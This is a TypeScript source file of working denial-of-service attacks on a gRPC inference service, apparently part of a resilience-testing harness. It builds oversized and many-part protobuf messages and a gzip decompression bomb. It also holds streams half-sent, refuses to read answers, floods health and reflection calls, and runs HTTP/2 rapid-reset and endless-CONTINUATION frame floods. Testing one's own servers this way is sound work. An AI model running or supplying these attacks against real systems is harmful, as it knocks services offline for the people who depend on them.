import type { Socket } from 'node:net';
import { gzipSync } from 'node:zlib';
import {
  CONTINUATION,
  callHeaders,
  countEnds,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  inferHeaders,
  leave,
  openHttp2,
  RST_STREAM,
  WIDE_WINDOW,
} from '../frames.js';
import { call, callOnce, INFER, openSession } from '../grpc-client.js';
import { field, framed, inferMessage, sloParameter, times } from '../protobuf.js';
import { write } from '../sockets.js';
import { repeat, sleepUntil, type Tally } from '../tally.js';
import { type Attack, SMALL, type Target } from '../target.js';

/** gRPC: messages that are dear to decode, keep or answer, floods of HTTP/2 frames, and too many right calls. */

const MB = 1_000_000;
const SERVICE = '/inference.GRPCInferenceService';
const NOTHING = framed(Buffer.alloc(0));
/** Calls of a connection at a time: fewer than the server allows. */
const AT_A_TIME = 100;
/** Frames, or streams, of a flood that are written at once. */
const BATCH = 200;
/** A setting of HTTP/2. */
const INITIAL_WINDOW_SIZE = 4;

/** A call without the frames' stream. */
interface Call {
  readonly path: string;
  readonly message: Buffer;
}

const INFERENCE: Call = { path: INFER, message: framed(inferMessage()) };

/** 16 kB of questions, each of which is answered with a whole file. */
const REFLECTION: Call = {
  path: '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo',
  message: times(400, framed(field(4, 'inference.GRPCInferenceService'))),
};

/** Asked besides inferences. */
const OTHERS: readonly Call[] = [
  { path: '/grpc.health.v1.Health/Check', message: NOTHING },
  { path: `${SERVICE}/ServerLive`, message: NOTHING },
  { path: `${SERVICE}/ServerMetadata`, message: NOTHING },
  { path: `${SERVICE}/ModelMetadata`, message: framed(field(1, SMALL.name)) },
  { path: `${SERVICE}/NoSuchMethod`, message: NOTHING },
];

export const GRPC_ATTACKS: readonly Attack[] = [
  attack('grpc messages of millions of parts', async (target, ...to) => {
    const messages = [
      ...millions(target.size).map((parts) => ({ body: framed(inferMessage(...parts)) })),
      { body: framed(submessageBomb(target.size, 5), true), headers: { 'grpc-encoding': 'gzip' } },
    ];
    const { grpc, tls } = target;
    const [tally, untilMs] = to;
    await Promise.all(
      messages.map((message) => repeat(2, untilMs, () => callOnce(grpc, tls, tally, message))),
    );
  }),
  attack('grpc 50 streams hold 60 MB each', holdStreams),
  attack('grpc answers that are never read', neverRead),
  attack('grpc calls without inference', (...to) => callOn(...to, OTHERS, 4)),
  attack('grpc floods of reflection', (...to) => callOn(...to, [REFLECTION], 4)),
  attack('grpc 20,000 requests under way', (...to) => callOn(...to, [INFERENCE], 200)),
  attack('h2 rapid reset, endless continuation', async (...to) => {
    await Promise.all([flood(...to, rapidReset), flood(...to, continuation)]);
  }),
];

/** What is added to a message and to its tensor: sizes, elements, tensors and outputs. Lists are packed, a byte an element. */
function millions(size: number): Parameters<typeof inferMessage>[] {
  const mega = size * MB;
  return [
    [[], [field(3, Buffer.alloc(20 * mega, 1))]],
    [[], [field(5, field(2, Buffer.alloc(30 * mega, 1)))]],
    [[times(5 * mega, field(7, ''))]],
    [[sloParameter(60_000), times(mega, field(6, field(1, 'output')))]],
  ];
}

function attack(name: string, run: Attack['run']): Attack {
  return { name, setting: 'plain', run };
}

/** 64 kB on the wire: 32 million empty messages. */
export function submessageBomb(size: number, fieldNumber: number, path: readonly number[] = []): Buffer {
  const many = times(32 * size * MB - 64, Buffer.from([fieldNumber * 8 + 2, 0]));
  return gzipSync(path.reduceRight((inner, number) => field(number, inner), many));
}

/** Messages that lack their last bytes, on ten connections. */
async function holdStreams({ grpc, tls, size }: Target, tally: Tally, untilMs: number): Promise<void> {
  const body = framed(Buffer.alloc(60 * size * MB)).subarray(0, -10);
  for (let i = 0; i < 10; i++) {
    const session = await openSession(grpc, tls, tally);
    if (session === null) continue;
    for (let j = 0; j < 5; j++) void call(session, tally, { body, end: false });
  }
  await sleepUntil(untilMs);
}

/** Windows of nothing: each answer has to be kept. */
async function neverRead({ grpc, tls }: Target, tally: Tally, untilMs: number): Promise<void> {
  const body = framed(inferMessage());
  const repeated = framed(inferMessage([sloParameter(60_000), times(20_000, field(6, field(1, 'output')))]));
  for (let i = 0; i < 20; i++) {
    const session = await openSession(grpc, tls, tally);
    if (session === null) continue;
    session.settings({ initialWindowSize: 0 });
    for (let j = 0; j < 100; j++) void call(session, tally, { body: j === 0 ? repeated : body });
  }
  await sleepUntil(untilMs);
}

/** Frames that a connection sends next; `round` counts from 0. */
type Flood = (round: number) => Buffer;

function rapidReset(round: number): Buffer {
  const cancel = Buffer.from([0, 0, 0, 8]);
  return Buffer.concat(
    Array.from({ length: BATCH }, (_, i) => {
      const id = 2 * (round * BATCH + i) + 1;
      return [frame(HEADERS, END_HEADERS, id, inferHeaders()), frame(RST_STREAM, 0, id, cancel)];
    }).flat(),
  );
}

/** Headers that never end. */
function continuation(round: number): Buffer {
  const more = frame(CONTINUATION, 0, 1, inferHeaders({ x: 'a'.repeat(100) }));
  const opening = round === 0 ? frame(HEADERS, 0, 1, inferHeaders()) : Buffer.alloc(0);
  return Buffer.concat([opening, times(BATCH, more)]);
}

/** Two connections, of which one never reads, each replaced when it is closed. */
async function flood(target: Target, tally: Tally, untilMs: number, next: Flood): Promise<void> {
  let connections = 0;
  await repeat(2, untilMs, async () => {
    const socket = await openHttp2(target, tally);
    if (socket === null) return;
    if (connections++ % 2 === 0) countEnds(socket, tally);
    else socket.pause();
    for (let round = 0; performance.now() < untilMs; round++) {
      // One that never reads waits for the server's patience.
      const isOver = sleepUntil(untilMs).then(() => false);
      if (!(await Promise.race([write(socket, next(round)), isOver]))) break;
      await new Promise((resolve) => setImmediate(resolve));
    }
    leave(socket);
  });
}

/** Connections that always have calls under way, each replaced when it is closed. */
async function callOn(
  target: Target,
  tally: Tally,
  untilMs: number,
  calls: readonly Call[],
  connections: number,
): Promise<void> {
  await repeat(connections, untilMs, async () => {
    const socket = await openHttp2(target, tally, [[INITIAL_WINDOW_SIZE, 2 ** 31 - 1]]);
    if (socket === null) return;
    let stream = 1;
    const next = () => {
      if (!socket.writable || performance.now() > untilMs) return;
      socket.write(bytesOf(calls[((stream - 1) / 2) % calls.length], stream));
      stream += 2;
    };
    countEnds(socket, tally, () => {
      tally.add('ended');
      next();
    });
    socket.cork();
    socket.write(WIDE_WINDOW);
    for (let i = 0; i < AT_A_TIME; i++) next();
    socket.uncork();
    await Promise.race([closed(socket), sleepUntil(untilMs)]);
    leave(socket);
  });
}

function bytesOf({ path, message }: Call, stream: number): Buffer {
  return Buffer.concat([
    frame(HEADERS, END_HEADERS, stream, callHeaders(path)),
    frame(DATA, END_STREAM, stream, message),
  ]);
}

function closed(socket: Socket): Promise<void> {
  return new Promise((resolve) => socket.once('close', () => resolve()));
}
